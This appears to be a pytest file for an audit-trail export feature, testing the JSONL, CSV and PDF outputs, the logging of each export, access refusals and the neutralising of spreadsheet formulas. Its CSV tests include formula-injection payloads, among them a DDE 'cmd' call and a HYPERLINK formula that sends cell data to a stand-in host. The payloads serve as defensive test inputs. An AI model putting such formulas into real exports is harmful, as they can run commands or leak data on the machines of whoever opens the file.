"""An export holds old and new values, is no formula, and stands in the trail it came from."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
from hashlib import sha256
from typing import Any

import pytest
from pypdf import PdfReader

from governance.errors import Forbidden
from governance.operations.trail import export_trail
from governance.operations.trail.export_trail import UNKNOWN, ExportForm, ExportTooLarge
from governance.operations.trail.hits import FieldChange, TrailHit
from governance.operations.trail.trail_forms import csv_text, plain_cell
from governance.reports.trail_pdf import TrailReport, render_trail_pdf
from tests.support.small_deployment import Small
from tests.unit.trail.traffic import answer


def exported(
    home: Small, form: str, who: str = "aud", **asked: Any
) -> tuple[dict[str, Any], bytes]:
    told = home.perform(who, "trail.export", form=form, **asked)
    content = base64.b64decode(told.pop("content"))
    assert sha256(content).hexdigest() == told["sha256"]
    return told, content


def test_the_machine_forms_have_every_hit_of_the_search_with_old_and_new(home: Small) -> None:
    home.signed("sam", "release.roll_back", release="REL-1")
    found = home.perform("aud", "trail.search", kind="release.*")["hits"]
    _, content = exported(home, "jsonl", kind="release.*")
    about, *entries = [json.loads(line) for line in content.decode().splitlines()]
    assert about["origin"] == home.deployment.ledger.origin
    assert about["filter"] == {"kind": "release.*"}
    assert [one | {"time": None} for one in entries] == [one | {"time": None} for one in found]
    _, content = exported(home, "csv", kind="release.*")
    rows = list(csv.DictReader(io.StringIO(content.decode(), newline="")))
    (state,) = [row for row in rows if (row["kind"], row["field"]) == ("release.ended", "state")]
    assert (state["old"], state["new"]) == ("active", "rolled_back")
    assert state["actor_name"] == "Sam Small"


def test_answers_are_counted_in_the_heading_and_listed_when_asked(home: Small) -> None:
    answer(home)
    _, content = exported(home, "jsonl", kind="inference.*")
    lines = content.decode().splitlines()
    assert len(lines) == 1
    assert json.loads(lines[0])["answers"] == [
        ["inference.answered", "forecasting", "REL-1", "", 1]
    ]
    told, _ = exported(home, "jsonl", kind="inference.*", answers=True)
    assert told["entries"] == 1


def test_an_export_is_an_entry_with_the_digest_of_the_file(home: Small) -> None:
    told, _ = exported(home, "csv", actor="mo")
    (hit,) = home.perform("aud", "trail.search", kind="trail.exported")["hits"]
    assert (hit["seq"], hit["actor"]) == (told["seq"], "aud")
    assert hit["notes"] == {
        "entries": told["entries"], "filter": {"actor": "mo"}, "form": "csv",
        "sha256": told["sha256"], "size": told["size"],
    }  # fmt: skip


def test_what_names_nothing_in_the_ledger_is_not_made_permanent(home: Small) -> None:
    asked = {"actor": "kari.nordmann-01015012345", "record": "person:01015012345", "kind": "kari.n"}
    told, content = exported(home, "jsonl", **asked, model="forecasting")
    (hit,) = home.perform("aud", "trail.search", kind="trail.exported")["hits"]
    assert hit["notes"]["filter"] == {"model": "forecasting", **dict.fromkeys(asked, UNKNOWN)}
    assert told["entries"] == 0
    assert json.loads(content.splitlines()[0])["filter"]["actor"] == asked["actor"]


def test_who_may_not_take_the_trail_along_is_refused_and_nothing_is_recorded(home: Small) -> None:
    for who in ("mo", "cas", "sita", "nils"):
        actor = home.actor(who)
        before = home.size()
        with pytest.raises(Forbidden):
            home.as_actor(actor, "trail.export", form="csv")
        assert home.size() == before


def test_more_than_a_file_holds_is_refused_and_not_cut(
    home: Small, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(export_trail.MOST, ExportForm.CSV, 3)
    actor = home.actor("aud")
    before = home.size()
    with pytest.raises(ExportTooLarge):
        home.as_actor(actor, "trail.export", form="csv")
    assert home.size() == before


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1", "+1", "-x", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\x00=1", "\ufeff=1",
        "\uff1d1", "\uff0b1", "\uff0d1", "\uff201", "'quoted", "-1+2", "=cmd|' /C calc'!A0",
    ],
)  # fmt: skip
def test_no_cell_is_a_formula_and_the_value_can_be_had_back(cell: str) -> None:
    shown = plain_cell(cell)
    assert given_back(shown) == cell
    assert shown.startswith("'")
    hit = TrailHit(
        seq=1, t_us=0, event_id=cell, kind="a.b", actor=cell, actor_name=cell, model=cell,
        records=[cell], notes={}, body="none",
        changes=[FieldChange(record=cell, field=cell, old=cell, new=cell)],
    )  # fmt: skip
    (_, row) = csv.reader(io.StringIO(csv_text([hit]).decode(), newline=""))
    assert all(not value or value[0] not in "=+-@\t\r\n " for value in row)


def given_back(shown: str) -> str:
    return re.sub("([;\\t\\r\\n])'", r"\1", shown.removeprefix("'"))


@pytest.mark.parametrize(
    "cell",
    [
        "Kari;=HYPERLINK(\"http://x?\"&A1);", "a; =1", 'a;"=1+1"', "a\t=1", "a\n=1", "a;'=1",
        ";;+1", "=1;=2", "a;-1;@b", "'a;''b",
    ],
)  # fmt: skip
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_is_a_formula_where_other_signs_part_the_cells(cell: str, delimiter: str) -> None:
    assert given_back(plain_cell(cell)) == cell
    hit = TrailHit(
        seq=1, t_us=0, event_id="e", kind="a.b", actor="mo", actor_name=cell, model="",
        records=[], notes={"told": cell}, body="none",
        changes=[FieldChange(record="r", field="f", old=cell, new=cell)],
    )  # fmt: skip
    rows = csv.reader(io.StringIO(csv_text([hit]).decode(), newline=""), delimiter=delimiter)
    cells = [one.lstrip() for row in rows for one in row]
    assert [one for one in cells if one[:1] in {"=", "+", "-", "@"}] == []


@pytest.mark.parametrize(
    "cell", ["", "1", "-1", "2026-11-24T08:15:00Z", "released", "a=b", "1.5", "a; b"]
)
def test_an_ordinary_cell_stays_as_it_is(cell: str) -> None:
    assert plain_cell(cell) == cell


def report() -> TrailReport:
    return TrailReport(
        organisation="st-olav", origin="st-olav/small/audit/x", first=0, end=3, size=9,
        root="ab" * 32, checkpoint="st-olav/small/audit/x\n9\nabc=\n\n— st-olav/small x=\n",
        asked=(("actor", "mo"), ("answers", "True")), entries=1,
        answers=(("inference.answered", "forecasting", "REL-1", "", 7),),
        made_by="Aud Small (aud)", made_us=1_790_000_000_000_000,
    )  # fmt: skip


def entry(**more: Any) -> dict[str, Any]:
    return {
        "seq": 2, "t_us": 1_790_000_000_000_000, "event_id": "e", "kind": "release.ended",
        "actor": "mo", "actor_name": "Mo Small", "model": "", "records": ["release:REL-1"],
        "changes": [
            {"record": "release:REL-1", "field": "state", "old": "active", "new": "rolled_back"}
        ],
        "notes": {"reason": "#set page(fill: red) $x$ *bold*"}, "body": "none", **more,
    }  # fmt: skip


def text_of(document: bytes) -> str:
    pages = PdfReader(io.BytesIO(document)).pages
    return " ".join(" ".join(page.extract_text() for page in pages).split())


def test_the_document_says_what_it_rests_on_and_is_the_same_bytes_twice() -> None:
    document = render_trail_pdf(report(), [entry()])
    assert document == render_trail_pdf(report(), [entry()])
    text = text_of(document)
    for told in (
        "st-olav/small/audit/x", "entries 0 to 2, of 9", "actor mo", "Aud Small (aud)",
        "release.ended", "active", "rolled_back", "forecasting", "ab" * 32,
    ):  # fmt: skip
        assert told in text, told
    assert "#set page(fill: red) $x$ *bold*" in text, "a value is never markup"


def test_the_readable_form_of_a_real_search(home: Small) -> None:
    _, content = exported(home, "pdf", kind="release.*")
    text = text_of(content)
    assert "release.opened" in text
    assert "Mo Small (mo)" in text
